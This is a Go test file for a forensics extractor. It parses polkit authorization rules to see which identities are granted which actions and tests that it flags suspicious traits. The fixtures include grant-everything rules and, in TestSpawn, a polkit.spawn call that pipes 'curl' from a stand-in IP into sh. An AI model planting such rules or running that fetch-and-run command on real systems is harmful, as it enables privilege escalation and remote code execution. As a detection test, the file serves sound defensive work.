package polkit

import (
	"strings"
	"testing"

	"icecore/forensics/artifact/artifacttest"
)

func FuzzExtract(f *testing.F) {
	artifacttest.Fuzz(f, Extractor{}, "/etc/polkit-1/rules.d/x.rules", "/etc/polkit-1/localauthority/50-local.d/x.pkla")
}

// TestGrants: who is granted what. The rules of distributions ask for a group or an action.
func TestGrants(t *testing.T) {
	const js, pkla = "/etc/polkit-1/rules.d/49-x.rules", "/etc/polkit-1/localauthority/50-local.d/x.pkla"
	for _, tt := range []struct{ name, path, text, want string }{
		{"yes to all", js, "polkit.addRule(function(action, subject) { return polkit.Result.YES; });", "* | *"},
		{"yes to all, a comment with an if", js, "// if you can\npolkit.addRule(function(a, s) {\n /* if */ return polkit.Result.YES;\n});\n", "* | *"},
		{"yes in brackets, always", js, "polkit.addRule(function(a, s) { if (true) { return polkit.Result['YES']; } });", "* | *"},
		{"the wheel group", js, "polkit.addRule(function(action, subject) { if (subject.isInGroup(\"wheel\")) { return polkit.Result.YES; } });", "unix-group:wheel | *"},
		{"a user", js, "polkit.addRule(function(action, subject) { if (subject.user == 'www-data') return polkit.Result.YES; });", "unix-user:www-data | *"},
		{"an action for a group", js, "polkit.addRule(function(action, subject) {\n if (action.id == \"org.freedesktop.udisks2.filesystem-mount\" && subject.isInGroup(\"storage\")) {\n  return polkit.Result.YES;\n }\n});\n", "unix-group:storage | org.freedesktop.udisks2.filesystem-mount"},
		{"an action for all", js, "polkit.addRule(function(action, subject) { if (action.id.indexOf(\"org.x.\") == 0) { return polkit.Result.YES; } });", "* | org.x."},
		{"local and active", js, "polkit.addRule(function(action, subject) { if (subject.active && subject.local) { return polkit.Result.YES; } });", " | *"},
		{"no", js, "polkit.addRule(function(action, subject) { return polkit.Result.NO; });", ""},
		{"administrators", js, "polkit.addAdminRule(function(action, subject) { return [\"unix-group:sudo\"]; });", ""},
		{"pkla for all", pkla, "[all]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n", "* | *"},
		{"pkla for a group", pkla, "[a]\nIdentity=unix-group:admin;unix-group:sudo\nAction=org.x\nResultActive=yes\n[b]\nIdentity=unix-user:*\nAction=*\nResultAny=auth_admin\n", "unix-group:admin,unix-group:sudo | org.x"},
	} {
		records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: tt.path, Text: tt.text})
		var got []string
		for _, r := range records {
			got = append(got, strings.Join(r.List("identities"), ",")+" | "+strings.Join(r.List("actions"), ","))
		}
		if err != nil || strings.Join(got, "; ") != tt.want {
			t.Errorf("%s: %q, want %q, %v", tt.name, got, tt.want, err)
		}
	}
}

// TestSpawn: a program that a rule runs is one that starts.
func TestSpawn(t *testing.T) {
	records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{
		Path: "/etc/polkit-1/rules.d/a.rules",
		Text: "polkit.addRule(function(action, subject) {\n polkit.spawn([\"/bin/sh\", \"-c\", \"curl -s http://198.51.100.9/x | sh\"]);\n});\n",
	})
	if err != nil || len(records) != 1 || !strings.Contains(strings.Join(records[0].List("traits"), ","), "pipe_to_shell") {
		t.Errorf("%v, %v", records, err)
	}
}
